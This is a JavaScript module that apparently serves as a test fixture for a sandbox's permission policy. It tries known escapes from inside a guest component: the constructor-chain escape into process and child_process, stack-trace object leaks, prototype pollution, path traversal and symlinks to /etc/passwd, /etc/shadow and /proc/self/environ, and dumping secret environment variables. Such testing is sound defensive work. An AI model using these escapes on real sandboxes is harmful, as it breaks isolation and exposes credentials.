// Classic ways out of a JavaScript sandbox, each tried from inside the component, plus the honest paths its
// policy grants (./config/**, one environment variable, one host). Each function reports what it reached.
const fs = require('fs');

function attempt(fn) {
  try {
    return { ok: true, value: fn() };
  } catch (error) {
    return { ok: false, code: error.code, name: error.name, message: String(error.message).slice(0, 200) };
  }
}

/** `this.constructor.constructor('return process')()`: the vm2/node:vm escape. */
function constructorChain() {
  const reached = (function () {
    return this.constructor.constructor('return process')();
  }).call({});
  const fromFunction = Function('return this')();
  return {
    sameAsGuestProcess: reached === process,
    env: { ...reached.env },
    secret: reached.env.ESCAPE_SECRET,
    mainModule: typeof reached.mainModule,
    binding: attempt(() => reached.binding('spawn_sync')),
    childProcess: attempt(() => reached.mainModule.require('child_process').execSync('id').toString()),
    globalIsGuest: fromFunction === globalThis,
    hostRequire: typeof fromFunction.require,
  };
}

/** V8's Error.prepareStackTrace hands out CallSite objects whose getThis()/getFunction() can leak host objects. */
function prepareStackTrace() {
  const leaked = [];
  Error.prepareStackTrace = (error, frames) => {
    for (const frame of Array.isArray(frames) ? frames : []) {
      try {
        const self = frame.getThis && frame.getThis();
        if (self && self !== globalThis) leaked.push(typeof self);
        const fn = frame.getFunction && frame.getFunction();
        if (fn) leaked.push(String(fn).slice(0, 40));
      } catch {
        // ignore
      }
    }
    return 'prepared';
  };
  Error.stackTraceLimit = Infinity;
  let stack;
  try {
    fs.readFileSync('/etc/shadow');
  } catch (error) {
    stack = String(error.stack);
  }
  const captured = {};
  if (Error.captureStackTrace) Error.captureStackTrace(captured);
  return { leaked, stackType: typeof stack, sawHostProcess: leaked.some((t) => /process|require/.test(t)), captured: String(captured.stack).slice(0, 100) };
}

/** Prototype pollution inside the guest, and a `__proto__` key sent to the host. */
function pollute() {
  Object.prototype.polluted = 'POLLUTED-BY-GUEST';
  Array.prototype.includes = () => true;
  JSON.parse = () => ({ hijacked: true });
  const payload = {};
  Object.defineProperty(payload, '__proto__', { value: { polluted: 'via-boundary' }, enumerable: true, writable: true, configurable: true });
  payload.constructor = { prototype: { polluted: 'via-constructor' } };
  return { guestSees: {}.polluted, guestIncludes: [].includes('anything'), payload };
}

/** `..`, absolute paths, symlinks and /proc out of the granted ./config folder. */
function pathEscapes(homeFile) {
  return {
    dotdot: attempt(() => fs.readFileSync('config/../secret.txt', 'utf8')),
    deepDotdot: attempt(() => fs.readFileSync('config/../../../../../../../../etc/passwd', 'utf8')),
    absolute: attempt(() => fs.readFileSync(homeFile, 'utf8')),
    symlink: attempt(() => fs.readFileSync('config/link-to-home-secret', 'utf8')),
    symlinkDir: attempt(() => fs.readdirSync('config/link-to-home')),
    procEnviron: attempt(() => fs.readFileSync('/proc/self/environ', 'utf8')),
    procMem: attempt(() => fs.readFileSync('/proc/self/mem')),
    procViaDotdot: attempt(() => fs.readFileSync('config/../../../../../../../../proc/self/environ', 'utf8')),
    fileUrl: attempt(() => fs.readFileSync(new URL(`file://${homeFile}`), 'utf8')),
    writeOutside: attempt(() => fs.writeFileSync('config/../planted.txt', 'x')),
  };
}

/** Every way to list process.env. */
function enumerateEnv() {
  const forIn = [];
  for (const key in process.env) forIn.push(key);
  return {
    keys: Object.keys(process.env),
    names: Object.getOwnPropertyNames(process.env),
    ownKeys: Reflect.ownKeys(process.env).map(String),
    entries: Object.entries(process.env),
    json: JSON.stringify(process.env),
    spread: { ...process.env },
    forIn,
    secret: process.env.ESCAPE_SECRET,
    hasSecret: 'ESCAPE_SECRET' in process.env,
  };
}

// The honest paths.
const readConfig = () => JSON.parse(fs.readFileSync('config/app.json', 'utf8'));
const readAllowedEnv = () => process.env.ESCAPE_ALLOWED;
let pinged = { state: 'none' };
function startPing(url) {
  pinged = { state: 'pending' };
  fetch(url).then(
    async (response) => (pinged = { state: 'done', status: response.status, body: await response.text() }),
    (error) => (pinged = { state: 'failed', code: error.code }),
  );
  return pinged.state;
}

module.exports = { constructorChain, prepareStackTrace, pollute, pathEscapes, enumerateEnv, readConfig, readAllowedEnv, startPing, pingResult: () => pinged };
